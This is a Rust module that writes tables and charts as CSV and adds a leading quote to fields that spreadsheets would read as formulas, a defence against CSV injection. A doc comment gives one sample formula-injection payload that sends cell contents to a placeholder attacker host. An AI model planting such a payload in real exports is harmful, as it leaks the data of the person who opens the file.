//! CSV export of tables and charts.

use std::borrow::Cow;

use crate::model::{Cell, Chart, Table};

/// Header of the category column in [`chart_csv`] when the chart has no
/// x-axis label.
const DEFAULT_CATEGORY_HEADER: &str = "category";

/// Writes a table as CSV (RFC 4180): a header row with the column names,
/// then one record per row, with fields quoted where they contain a comma,
/// quote or line break and lines ending in `\n`.
///
/// Text cells and column names that start with a formula character get a
/// leading `'`, as [`guard_formula`] describes. Integer and number cells are
/// written unchanged, so `-5` stays a number. Empty cells are empty fields.
///
/// The table is written as it is, so run [`crate::validate_table`] first: a
/// row of the wrong length becomes a record of that length.
pub fn table_csv(table: &Table) -> String {
    let mut writer = csv_writer();
    let header = table.columns.iter().map(|name| guard_formula(name));
    write_record(&mut writer, header);
    for row in &table.rows {
        write_record(&mut writer, row.iter().map(cell_field));
    }
    finish(writer)
}

/// Writes a chart's data as CSV: one record per category, with the category
/// in the first field and the value of each series in the following fields.
/// The header row has the x-axis label (or `category` when it is empty) and
/// the series names. Labels are guarded like [`table_csv`]'s text cells.
///
/// A series with fewer values than categories, which [`crate::validate_chart`]
/// rejects, gets empty fields for the missing values.
pub fn chart_csv(chart: &Chart) -> String {
    let mut writer = csv_writer();
    let category_header = if chart.x_label.is_empty() {
        DEFAULT_CATEGORY_HEADER
    } else {
        &chart.x_label
    };
    let header = std::iter::once(guard_formula(category_header)).chain(
        chart
            .series
            .iter()
            .map(|series| guard_formula(&series.name)),
    );
    write_record(&mut writer, header);

    for (index, category) in chart.categories.iter().enumerate() {
        let values = chart
            .series
            .iter()
            .map(|series| match series.values.get(index) {
                Some(value) => Cow::Owned(value.to_string()),
                None => Cow::Borrowed(""),
            });
        let record = std::iter::once(guard_formula(category)).chain(values);
        write_record(&mut writer, record);
    }
    finish(writer)
}

/// Prefixes `text` with `'` when it starts with `=`, `+`, `-`, `@`, a tab or
/// a carriage return.
///
/// Spreadsheets such as Excel and LibreOffice Calc read a CSV field that
/// starts with one of these characters as a formula. Report text comes from
/// customers (a mail subject, a chat message), so a field such as
/// `=HYPERLINK("http://attacker.example/?"&A1,"click")` would run in the
/// spreadsheet of the agent who opens the export. The leading `'` makes the
/// spreadsheet show the field as text. This is the defence that the OWASP
/// page "CSV Injection" recommends. The cost is that a program that reads
/// the CSV gets the `'` as part of the field, for example `'-3` for a text
/// cell `-3`.
pub fn guard_formula(text: &str) -> Cow<'_, str> {
    let starts_formula = text
        .chars()
        .next()
        .is_some_and(|first| matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if starts_formula {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

fn cell_field(cell: &Cell) -> Cow<'_, str> {
    match cell {
        Cell::Empty => Cow::Borrowed(""),
        Cell::Text(text) => guard_formula(text),
        Cell::Integer(value) => Cow::Owned(value.to_string()),
        Cell::Number(value) => Cow::Owned(value.to_string()),
    }
}

fn csv_writer() -> csv::Writer<Vec<u8>> {
    // `flexible` writes records of any length instead of failing on the
    // first short row, which `table_csv` documents.
    csv::WriterBuilder::new()
        .flexible(true)
        .from_writer(Vec::new())
}

fn write_record<'a>(
    writer: &mut csv::Writer<Vec<u8>>,
    fields: impl IntoIterator<Item = Cow<'a, str>>,
) {
    let fields: Vec<Cow<'a, str>> = fields.into_iter().collect();
    // With `flexible` set, the only error left is an I/O error, and writing
    // to a Vec has none.
    writer
        .write_record(fields.iter().map(|field| field.as_bytes()))
        .expect("writing CSV to memory failed");
}

fn finish(writer: csv::Writer<Vec<u8>>) -> String {
    let bytes = writer.into_inner().expect("flushing CSV to memory failed");
    String::from_utf8(bytes).expect("CSV written from strings is UTF-8")
}
